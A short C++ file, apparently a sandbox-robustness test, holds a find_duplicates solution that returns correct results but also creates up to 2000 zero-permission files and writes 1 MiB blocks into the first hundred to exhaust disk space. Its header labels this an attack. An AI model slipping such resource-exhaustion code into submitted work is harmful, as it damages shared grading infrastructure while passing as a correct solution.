// Attack: writes files until the disk is full, and as many empty ones.
// Outcome: correct, but

#include "find_duplicates.h"

#include "parts/slow.h"

#include <fcntl.h>
#include <unistd.h>

#include <string>
#include <vector>

std::vector<int> find_duplicates(std::span<const int> values) {
  static bool done = false;
  const std::vector<char> block(1 << 20, 'x');
  for (int i = 0; i < 2000 && !done; ++i) {
    const int file = open(("file-" + std::to_string(i)).c_str(), O_CREAT | O_WRONLY, 0000);
    if (i < 100) [[maybe_unused]] const auto n = write(file, block.data(), block.size());
    close(file);
  }
  done = true;
  return slow(values);
}
